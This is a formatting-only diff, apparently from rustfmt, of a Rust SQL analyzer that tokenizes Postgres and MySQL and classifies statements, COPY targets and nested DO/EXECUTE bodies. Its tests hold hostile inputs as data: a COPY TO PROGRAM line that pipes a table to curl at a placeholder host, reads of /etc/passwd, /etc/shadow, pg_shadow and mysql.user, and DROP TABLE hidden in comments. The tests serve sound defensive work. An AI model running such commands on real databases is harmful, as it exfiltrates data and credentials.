@@ -41,7 +41,11 @@ impl Error {
 
 impl fmt::Display for Error {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "unterminated string, identifier or comment starting at offset {}", self.offset)
+        write!(
+            f,
+            "unterminated string, identifier or comment starting at offset {}",
+            self.offset
+        )
     }
 }
 
@@ -154,7 +158,9 @@ fn tokenize(s: &str, d: Dialect) -> Result<Vec<(Tok, usize)>, Error> {
         let start = i;
         match c {
             _ if c.is_ascii_whitespace() => i += 1,
-            b'-' if b.get(i + 1) == Some(&b'-') => i = b[i..].iter().position(|&x| x == b'\n').map_or(b.len(), |p| i + p),
+            b'-' if b.get(i + 1) == Some(&b'-') => {
+                i = b[i..].iter().position(|&x| x == b'\n').map_or(b.len(), |p| i + p)
+            }
             b'#' if d == Dialect::MySql => i = b[i..].iter().position(|&x| x == b'\n').map_or(b.len(), |p| i + p),
             b'/' if b.get(i + 1) == Some(&b'*') => {
                 if d == Dialect::MySql && b.get(i + 2) == Some(&b'!') {
@@ -190,7 +196,9 @@ fn tokenize(s: &str, d: Dialect) -> Result<Vec<(Tok, usize)>, Error> {
             b'*' if d == Dialect::MySql && b.get(i + 1) == Some(&b'/') => i += 2, // end of /*! … */
             b'\'' => {
                 let e_prefix = d == Dialect::Postgres
-                    && out.last().is_some_and(|(t, p): &(Tok, usize)| *p + 1 == i && matches!(t, Tok::Word(w) if w == "e"));
+                    && out
+                        .last()
+                        .is_some_and(|(t, p): &(Tok, usize)| *p + 1 == i && matches!(t, Tok::Word(w) if w == "e"));
                 if e_prefix {
                     out.pop(); // the E of E'…' was read as a word
                 }
@@ -211,13 +219,22 @@ fn tokenize(s: &str, d: Dialect) -> Result<Vec<(Tok, usize)>, Error> {
             }
             b'$' if d == Dialect::Postgres => {
                 // $tag$ … $tag$ (tag may be empty); $1 is a parameter.
-                let tag_end = b[i + 1..].iter().position(|&x| !(x.is_ascii_alphanumeric() || x == b'_')).map(|p| i + 1 + p);
+                let tag_end = b[i + 1..]
+                    .iter()
+                    .position(|&x| !(x.is_ascii_alphanumeric() || x == b'_'))
+                    .map(|p| i + 1 + p);
                 match tag_end {
                     Some(e) if b[e] == b'$' && !b.get(i + 1).is_some_and(u8::is_ascii_digit) => {
                         let tag = &b[i..=e];
                         let body_start = e + 1;
-                        let close = b[body_start..].windows(tag.len()).position(|w| w == tag).ok_or(Error { offset: start })?;
-                        out.push((Tok::Str(String::from_utf8_lossy(&b[body_start..body_start + close]).into_owned()), start));
+                        let close = b[body_start..]
+                            .windows(tag.len())
+                            .position(|w| w == tag)
+                            .ok_or(Error { offset: start })?;
+                        out.push((
+                            Tok::Str(String::from_utf8_lossy(&b[body_start..body_start + close]).into_owned()),
+                            start,
+                        ));
                         i = body_start + close + tag.len();
                     }
                     _ => {
@@ -234,7 +251,10 @@ fn tokenize(s: &str, d: Dialect) -> Result<Vec<(Tok, usize)>, Error> {
                 i += 1;
             }
             _ if c.is_ascii_alphabetic() || c == b'_' || c >= 0x80 => {
-                while b.get(i).is_some_and(|&x| x.is_ascii_alphanumeric() || x == b'_' || x == b'$' || x >= 0x80) {
+                while b
+                    .get(i)
+                    .is_some_and(|&x| x.is_ascii_alphanumeric() || x == b'_' || x == b'$' || x >= 0x80)
+                {
                     i += 1;
                 }
                 out.push((Tok::Word(s[start..i].to_ascii_lowercase()), start));
@@ -305,7 +325,10 @@ fn analyze_at(sql: &str, dialect: Dialect, depth: usize) -> Result<Vec<Statement
             continue;
         }
         let start = stmt[0].1;
-        let end = toks.iter().find(|(t, p)| *t == Tok::Semi && *p > start).map_or(sql.len(), |(_, p)| *p);
+        let end = toks
+            .iter()
+            .find(|(t, p)| *t == Tok::Semi && *p > start)
+            .map_or(sql.len(), |(_, p)| *p);
         out.push(statement(stmt, (start, end), dialect, depth));
     }
     Ok(out)
@@ -339,11 +362,22 @@ fn name(toks: &[(Tok, usize)], mut i: usize) -> Option<(String, usize)> {
 
 /// Words that begin a statement.
 const VERBS: &[&str] = &[
-    "select", "insert", "update", "delete", "merge", "copy", "create", "alter", "drop", "truncate", "grant", "revoke", "set",
-    "show", "call", "do", "execute", "explain", "with", "values", "table", "replace", "load",
+    "select", "insert", "update", "delete", "merge", "copy", "create", "alter", "drop", "truncate", "grant", "revoke",
+    "set", "show", "call", "do", "execute", "explain", "with", "values", "table", "replace", "load",
 ];
 
-const NOT_RELATIONS: &[&str] = &["select", "lateral", "only", "unnest", "generate_series", "values", "if", "exists", "not", "table"];
+const NOT_RELATIONS: &[&str] = &[
+    "select",
+    "lateral",
+    "only",
+    "unnest",
+    "generate_series",
+    "values",
+    "if",
+    "exists",
+    "not",
+    "table",
+];
 
 fn statement(toks: &[(Tok, usize)], span: (usize, usize), dialect: Dialect, depth: usize) -> Statement {
     let mut s = Statement {
@@ -368,8 +402,17 @@ fn statement(toks: &[(Tok, usize)], span: (usize, usize), dialect: Dialect, dept
             match t {
                 Tok::Punct(b'(') => level += 1,
                 Tok::Punct(b')') => level -= 1,
-                Tok::Word(x) if level > 0 && matches!(x.as_str(), "insert" | "update" | "delete" | "merge") => s.writable_cte = true,
-                Tok::Word(x) if level == 0 && i > 0 && matches!(x.as_str(), "select" | "insert" | "update" | "delete" | "merge" | "values" | "table") => {
+                Tok::Word(x) if level > 0 && matches!(x.as_str(), "insert" | "update" | "delete" | "merge") => {
+                    s.writable_cte = true
+                }
+                Tok::Word(x)
+                    if level == 0
+                        && i > 0
+                        && matches!(
+                            x.as_str(),
+                            "select" | "insert" | "update" | "delete" | "merge" | "values" | "table"
+                        ) =>
+                {
                     verb_at = i;
                     break;
                 }
@@ -379,8 +422,10 @@ fn statement(toks: &[(Tok, usize)], span: (usize, usize), dialect: Dialect, dept
     }
     // PL/pgSQL block keywords before a statement (`BEGIN DROP TABLE x`, `ELSE DELETE …`) are not
     // the statement; `BEGIN` alone (or BEGIN WORK / TRANSACTION / ISOLATION …) is a transaction.
-    while matches!(w(verb_at), Some("begin" | "declare" | "loop" | "then" | "else" | "perform"))
-        && w(verb_at + 1).is_some_and(|v| VERBS.contains(&v))
+    while matches!(
+        w(verb_at),
+        Some("begin" | "declare" | "loop" | "then" | "else" | "perform")
+    ) && w(verb_at + 1).is_some_and(|v| VERBS.contains(&v))
     {
         verb_at += 1;
     }
@@ -401,7 +446,12 @@ fn statement(toks: &[(Tok, usize)], span: (usize, usize), dialect: Dialect, dept
         "truncate" => Kind::Truncate,
         "grant" => Kind::Grant,
         "revoke" => Kind::Revoke,
-        "set" if matches!(next, "role" | "password" | "session") && !matches!(w(verb_at + 2), Some("characteristics")) => Kind::Role,
+        "set"
+            if matches!(next, "role" | "password" | "session")
+                && !matches!(w(verb_at + 2), Some("characteristics")) =>
+        {
+            Kind::Role
+        }
         "set" | "reset" => Kind::Set,
         "show" => Kind::Show,
         "begin" | "start" | "commit" | "rollback" | "savepoint" | "release" | "end" | "abort" => Kind::Transaction,
@@ -424,16 +474,76 @@ fn statement(toks: &[(Tok, usize)], span: (usize, usize), dialect: Dialect, dept
             if matches!(toks.get(i + 1), Some((Tok::Punct(b'('), _)))
                 && !matches!(
                     x.as_str(),
-                    "in" | "values" | "exists" | "any" | "all" | "as" | "using" | "on" | "over" | "filter" | "within" | "into" | "table"
-                        | "from" | "join" | "where" | "and" | "or" | "not" | "select" | "with" | "cast" | "case" | "when" | "then" | "else"
-                        | "row" | "array" | "partition" | "by" | "returning" | "set" | "conflict" | "lateral" | "recursive"
+                    "in" | "values"
+                        | "exists"
+                        | "any"
+                        | "all"
+                        | "as"
+                        | "using"
+                        | "on"
+                        | "over"
+                        | "filter"
+                        | "within"
+                        | "into"
+                        | "table"
+                        | "from"
+                        | "join"
+                        | "where"
+                        | "and"
+                        | "or"
+                        | "not"
+                        | "select"
+                        | "with"
+                        | "cast"
+                        | "case"
+                        | "when"
+                        | "then"
+                        | "else"
+                        | "row"
+                        | "array"
+                        | "partition"
+                        | "by"
+                        | "returning"
+                        | "set"
+                        | "conflict"
+                        | "lateral"
+                        | "recursive"
                 )
             {
                 s.functions.push(x.clone());
             }
             let target = |i: usize| {
                 let mut j = i + 1;
-                while matches!(w(j), Some("only" | "if" | "exists" | "not" | "table" | "lateral" | "temporary" | "temp" | "unlogged" | "materialized" | "view" | "index" | "concurrently" | "schema" | "database" | "function" | "procedure" | "sequence" | "extension" | "type" | "trigger" | "policy" | "ignore" | "low_priority" | "quick")) {
+                while matches!(
+                    w(j),
+                    Some(
+                        "only"
+                            | "if"
+                            | "exists"
+                            | "not"
+                            | "table"
+                            | "lateral"
+                            | "temporary"
+                            | "temp"
+                            | "unlogged"
+                            | "materialized"
+                            | "view"
+                            | "index"
+                            | "concurrently"
+                            | "schema"
+                            | "database"
+                            | "function"
+                            | "procedure"
+                            | "sequence"
+                            | "extension"
+                            | "type"
+                            | "trigger"
+                            | "policy"
+                            | "ignore"
+                            | "low_priority"
+                            | "quick"
+                    )
+                ) {
                     j += 1;
                 }
                 name(toks, j).filter(|(n, _)| !NOT_RELATIONS.contains(&n.as_str()))
@@ -486,9 +596,17 @@ fn statement(toks: &[(Tok, usize)], span: (usize, usize), dialect: Dialect, dept
                 Tok::Word(x) if x == "from" || x == "to" || x == "infile" => {
                     s.copy_from = x != "to";
                     let target = match (toks.get(j + 1), toks.get(j + 2)) {
-                        (Some((Tok::Word(p), _)), Some((Tok::Str(cmd), _))) if p == "program" => Some(CopyTarget::Program(cmd.clone())),
+                        (Some((Tok::Word(p), _)), Some((Tok::Str(cmd), _))) if p == "program" => {
+                            Some(CopyTarget::Program(cmd.clone()))
+                        }
                         (Some((Tok::Word(p), _)), _) if p == "stdin" || p == "stdout" => Some(CopyTarget::Client),
-                        (Some((Tok::Str(f), _)), _) => Some(if toks.iter().any(|(t, _)| *t == Tok::Word("local".into())) { CopyTarget::Client } else { CopyTarget::File(f.clone()) }),
+                        (Some((Tok::Str(f), _)), _) => {
+                            Some(if toks.iter().any(|(t, _)| *t == Tok::Word("local".into())) {
+                                CopyTarget::Client
+                            } else {
+                                CopyTarget::File(f.clone())
+                            })
+                        }
                         _ => None,
                     };
                     if target.is_some() {
@@ -511,7 +629,10 @@ fn statement(toks: &[(Tok, usize)], span: (usize, usize), dialect: Dialect, dept
         }
     }
     // Bodies that are themselves SQL.
-    let body_of = |toks: &[(Tok, usize)]| toks.iter().find_map(|(t, _)| if let Tok::Str(b) = t { Some(b.clone()) } else { None });
+    let body_of = |toks: &[(Tok, usize)]| {
+        toks.iter()
+            .find_map(|(t, _)| if let Tok::Str(b) = t { Some(b.clone()) } else { None })
+    };
     match s.kind {
         Kind::Do => match body_of(toks) {
             Some(body) if depth < MAX_NESTING => match analyze_at(&body, dialect, depth + 1) {
@@ -565,12 +686,26 @@ mod tests {
     #[test]
     fn kinds_and_relations() {
         let s = pg("SELECT u.id FROM public.users u JOIN orders o ON o.uid = u.id WHERE pg_catalog.now() > o.t");
-        assert_eq!((s[0].kind, s[0].reads.clone()), (Kind::Select, vec!["public.users".to_string(), "orders".to_string()]));
+        assert_eq!(
+            (s[0].kind, s[0].reads.clone()),
+            (Kind::Select, vec!["public.users".to_string(), "orders".to_string()])
+        );
         assert_eq!(s[0].functions, ["now"]);
-        let s = pg("insert into audit(id) select id from users; update accounts set balance = 0; delete from sessions where age > 3");
-        assert_eq!((s[0].kind, s[0].writes.clone(), s[0].reads.clone()), (Kind::Insert, vec!["audit".to_string()], vec!["users".to_string()]));
-        assert_eq!((s[1].kind, s[1].writes.clone(), s[1].has_where), (Kind::Update, vec!["accounts".to_string()], false));
-        assert_eq!((s[2].kind, s[2].writes.clone(), s[2].has_where), (Kind::Delete, vec!["sessions".to_string()], true));
+        let s = pg(
+            "insert into audit(id) select id from users; update accounts set balance = 0; delete from sessions where age > 3",
+        );
+        assert_eq!(
+            (s[0].kind, s[0].writes.clone(), s[0].reads.clone()),
+            (Kind::Insert, vec!["audit".to_string()], vec!["users".to_string()])
+        );
+        assert_eq!(
+            (s[1].kind, s[1].writes.clone(), s[1].has_where),
+            (Kind::Update, vec!["accounts".to_string()], false)
+        );
+        assert_eq!(
+            (s[2].kind, s[2].writes.clone(), s[2].has_where),
+            (Kind::Delete, vec!["sessions".to_string()], true)
+        );
         assert_eq!(pg("select * from pg_shadow")[0].reads, ["pg_shadow"]);
         assert_eq!(pg("TRUNCATE TABLE logs")[0].writes, ["logs"]);
         assert_eq!(pg("drop table if exists \"Users\"")[0].writes, ["Users"]);
@@ -584,7 +719,10 @@ mod tests {
     #[test]
     fn evasion_resistance() {
         let s = pg("SeLeCt 1; /* a /* nested */ comment */ DrOp\n\tTABLE --x\n users");
-        assert_eq!((s.len(), s[1].kind, s[1].writes.clone()), (2, Kind::Drop, vec!["users".to_string()]));
+        assert_eq!(
+            (s.len(), s[1].kind, s[1].writes.clone()),
+            (2, Kind::Drop, vec!["users".to_string()])
+        );
         let s = pg("select 'DROP TABLE users; --', $$ DELETE FROM x $$, E'\\' ; drop table y'");
         assert_eq!(s.len(), 1, "text inside literals is data: {s:?}");
         assert_eq!(s[0].kind, Kind::Select);
@@ -597,14 +735,34 @@ mod tests {
     #[test]
     fn copy_do_execute_and_ctes() {
         let s = pg("COPY users TO PROGRAM 'curl -d @- http://x'");
-        assert_eq!((s[0].kind, s[0].copy_target.clone(), s[0].copy_from), (Kind::Copy, Some(CopyTarget::Program("curl -d @- http://x".into())), false));
+        assert_eq!(
+            (s[0].kind, s[0].copy_target.clone(), s[0].copy_from),
+            (
+                Kind::Copy,
+                Some(CopyTarget::Program("curl -d @- http://x".into())),
+                false
+            )
+        );
         assert_eq!(s[0].reads, ["users"]);
         let s = pg("copy t from '/etc/passwd'");
-        assert_eq!((s[0].copy_target.clone(), s[0].copy_from, s[0].writes.clone()), (Some(CopyTarget::File("/etc/passwd".into())), true, vec!["t".to_string()]));
+        assert_eq!(
+            (s[0].copy_target.clone(), s[0].copy_from, s[0].writes.clone()),
+            (
+                Some(CopyTarget::File("/etc/passwd".into())),
+                true,
+                vec!["t".to_string()]
+            )
+        );
         assert_eq!(pg("copy t to stdout")[0].copy_target, Some(CopyTarget::Client));
         let s = pg("DO $body$ BEGIN DROP TABLE users; END $body$");
         assert_eq!(s[0].kind, Kind::Do);
-        assert!(s[0].nested.iter().any(|n| n.kind == Kind::Drop && n.writes == ["users"]), "{:?}", s[0].nested);
+        assert!(
+            s[0].nested
+                .iter()
+                .any(|n| n.kind == Kind::Drop && n.writes == ["users"]),
+            "{:?}",
+            s[0].nested
+        );
         let s = pg("EXECUTE 'truncate audit'");
         assert_eq!(s[0].nested[0].kind, Kind::Truncate);
         assert!(!pg("EXECUTE stmt1")[0].certain);
@@ -619,18 +777,28 @@ mod tests {
 
     #[test]
     fn mysql_dialect() {
-        let s = analyze("select `password` from mysql.user # comment\n; /*!50000 DROP TABLE t */", Dialect::MySql).expect("ok");
+        let s = analyze(
+            "select `password` from mysql.user # comment\n; /*!50000 DROP TABLE t */",
+            Dialect::MySql,
+        )
+        .expect("ok");
         assert_eq!(s[0].reads, ["mysql.user"]);
         assert_eq!((s[1].kind, s[1].writes.clone()), (Kind::Drop, vec!["t".to_string()]));
         let s = analyze("select \"a;b\", 'it\\'s; drop table x'", Dialect::MySql).expect("ok");
         assert_eq!(s.len(), 1);
         let s = analyze("LOAD DATA INFILE '/etc/shadow' INTO TABLE t", Dialect::MySql).expect("ok");
-        assert_eq!((s[0].kind, s[0].copy_target.clone()), (Kind::Copy, Some(CopyTarget::File("/etc/shadow".into()))));
+        assert_eq!(
+            (s[0].kind, s[0].copy_target.clone()),
+            (Kind::Copy, Some(CopyTarget::File("/etc/shadow".into())))
+        );
     }
 
     #[test]
     fn arbitrary_input_never_panics() {
-        let alphabet: &[&str] = &["select", "drop", "from", "$$", "$a$", "'", "\"", "`", "/*", "*/", "--", "\n", ";", "(", ")", "e'", "\\", "x", " ", ".", "do", "execute", "copy", "with", "#", "/*!"];
+        let alphabet: &[&str] = &[
+            "select", "drop", "from", "$$", "$a$", "'", "\"", "`", "/*", "*/", "--", "\n", ";", "(", ")", "e'", "\\",
+            "x", " ", ".", "do", "execute", "copy", "with", "#", "/*!",
+        ];
         let mut seed = 0x0123_4567_89AB_CDEFu64;
         for _ in 0..20_000 {
             let mut v = String::new();
